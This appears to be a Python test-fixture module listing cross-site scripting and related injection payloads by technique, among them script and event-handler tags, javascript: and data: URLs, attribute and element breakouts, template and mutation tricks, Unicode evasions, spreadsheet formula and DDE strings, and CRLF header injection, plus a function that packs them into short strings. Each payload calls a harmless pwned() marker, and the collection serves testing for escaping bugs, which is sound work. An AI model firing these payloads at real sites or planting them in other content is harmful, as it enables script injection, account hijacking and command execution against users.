"""Texts that would run as a program where somebody forgets to escape them, by how they try.

Each calls `pwned()`, or leaves the word where only markup of its own can stand: as the name of an
attribute. Written by us from what browsers, parsers and templates are known to take for code.
"""

from functools import cache

MARK = "pwned"
RUNS = "<svg onload=pwned()>"

PAYLOADS: dict[str, list[str]] = {
    "script": [
        "<script>pwned()</script>",
        "<ScRiPt/x>pwned()</sCrIpT >",
        "<script src=data:,pwned()></script>",
        "<script type=module>pwned()</script>",
        "<<script>pwned()//<</script>",
        "<scr<script>ipt>pwned()</scr</script>ipt>",
        "<script>pwned()//",
    ],
    "event handler": [
        "<b pwned>",
        "<img src=x: onerror=pwned()>",
        "<img/src=x:/onerror=pwned()//",
        "<body onload=pwned()>",
        "<details open ontoggle=pwned()>",
        "<input autofocus onfocus=pwned()>",
        "<video src=x: onerror=pwned()>",
        "<iframe onload=pwned()>",
        "<style onload=pwned()></style>",
        "<object data=x: onerror=pwned()>",
        "<marquee onstart=pwned()>",
        "<a onclick=pwned()>",
        "<link rel=stylesheet href=data:, onload=pwned()>",
        "<IMG SRC=x: OnErRoR\n=\n'pwned()'>",
    ],
    "svg": [
        RUNS,
        "<svg/onload=pwned()//",
        "<svg><script>pwned()</script></svg>",
        "<svg><script>pwned&#40;&#41;</script></svg>",
        "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
        "<svg><a xlink:href=javascript:pwned()><text y=9>x</text></a></svg>",
        "<math><mi xlink:href=javascript:pwned()>x</mi></math>",
    ],
    "address": [
        "javascript:pwned()",
        " JaVaScRiPt:pwned()",
        "java\tscript:pwned()",
        "\x01javascript:pwned()",
        "javascript&colon;pwned()",
        "&#106;avascript:pwned()",
        "javascript://%0apwned()",
        "data:text/html,<script>pwned()</script>",
        "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
        "vbscript:pwned()",
        "<iframe src=javascript:parent.pwned()>",
        "<iframe srcdoc='<script>parent.pwned()</script>'>",
        "<embed src=javascript:pwned()>",
        "<a href=javascript:pwned()>x</a>",
        "<form action=javascript:pwned()><button>x",
        "<base href=javascript:pwned()//>",
        "<meta http-equiv=refresh content=0;url=javascript:pwned()>",
    ],
    "out of an attribute": [
        '"pwned="',
        "'pwned='",
        '" autofocus onfocus="pwned()',
        "' autofocus onfocus='pwned()",
        "` onmouseover=pwned() `",
        "x onmouseover=pwned() ",
        f'">{RUNS}',
        f"'>{RUNS}",
        f"`>{RUNS}",
        '\\" onmouseover=\\"pwned()',
        "&quot; onmouseover=&quot;pwned()",
    ],
    "out of a script or JSON": [
        "';pwned();//",
        '";pwned();//',
        "\\';pwned();//",
        '\\";pwned();//',
        "`;pwned();//",
        "${pwned()}",
        '"});pwned();({"',
        "\u2028pwned()\u2029",
        "*/pwned()/*",
        "</script><script>pwned()</script>",
        "<!--<script>pwned()",
        "\\u003cimg src=x: onerror=pwned()\\u003e",
        '"},"pwned":{"a":"',
    ],
    "out of an element": [
        *(f"</{name}>{RUNS}" for name in ("title", "textarea", "style", "script", "noscript")),
        *(f"</{name}>{RUNS}" for name in ("template", "select", "iframe", "xmp", "svg")),
        f"--><!-- -->{RUNS}",
        f"]]>{RUNS}",
    ],
    "template": [
        "{{constructor.constructor('pwned()')()}}",
        "{{pwned()}}",
        "{{{pwned()}}}",
        "{% debug %}{{ pwned|safe }}",
        "#{pwned()}",
        "<%=pwned()%>",
        "[[pwned()]]",
        "<b x-init=pwned() v-html=pwned() pwned>",
        "<b data-controller=w-action data-action=pwned#pwned pwned>",
    ],
    "mutation": [
        "<noscript><p title='</noscript><img src=x: onerror=pwned()>'>",
        "<svg></p><style><a id='</style><img src=x: onerror=pwned()>'>",
        "<math><mtext><table><mglyph><style><!--</style>"
        "<img title='--&gt;&lt;img src=x: onerror=pwned()&gt;'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=pwned()>",
        "<listing>&lt;img src=x: onerror=pwned()&gt;</listing>",
        "&lt;img src=x: onerror=pwned()&gt;",
        "&amp;lt;img src=x: onerror=pwned()&amp;gt;",
        "&#60;img src=x: onerror=pwned()&#x3e;",
        "<p is=x><table><template><img src=x: onerror=pwned()>",
    ],
    "letters": [
        "＜img src=x: onerror=pwned()＞",
        "<ſcript>pwned()</ſcript>",
        "<ﬁgure onclick=pwned()>",
        "<scr\x00ipt>pwned()</scr\x00ipt>",
        "<\u200bscript>pwned()</\u200bscript>",
        "<img src=x: onerror=\\u0070wned()>",
        "\u202e<script>pwned()</script>",
        "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
        "%3Cimg src=x: onerror=pwned()%3E",
        "%253Cimg src=x: onerror=pwned()%253E",
        "ʺ autofocus onfocus=ʺpwned()",
        "\u00adjavascript:pwned()",
    ],
    "markdown": [
        "[x](javascript:pwned())",
        '![x](x:"onerror="pwned())',
        "<javascript:pwned()>",
        "[x]: javascript:pwned()",
        f"**{RUNS}**",
        "```<script>pwned()</script>```",
    ],
    "cell": [
        '=HYPERLINK("javascript:pwned()","x")',
        "=cmd|' /C pwned'!A0",
        "+pwned()",
        "-2+pwned()",
        "@pwned()",
        "\t=pwned()",
        "\r=pwned()",
        "＝pwned()",
    ],
    "header": [
        "pwned\r\nBcc: everybody@pwned.example",
        "pwned\r\n\r\n<script>pwned()</script>",
        "pwned\nContent-Type: text/html\n\n<script>pwned()</script>",
    ],
}
ALL = [payload for payloads in PAYLOADS.values() for payload in payloads]


@cache
def packed(limit: int) -> list[str]:
    """All payloads that fit, in as few texts of at most `limit` characters as will do.

    One that opens a comment or a script hides what stands behind it, in one text of many.
    """
    texts: list[str] = []
    for payload in (one for one in ALL if len(one) <= limit):
        for number, text in enumerate(texts):
            if len(text) + 1 + len(payload) <= limit:
                texts[number] = f"{text} {payload}"
                break
        else:
            texts.append(payload)
    return texts
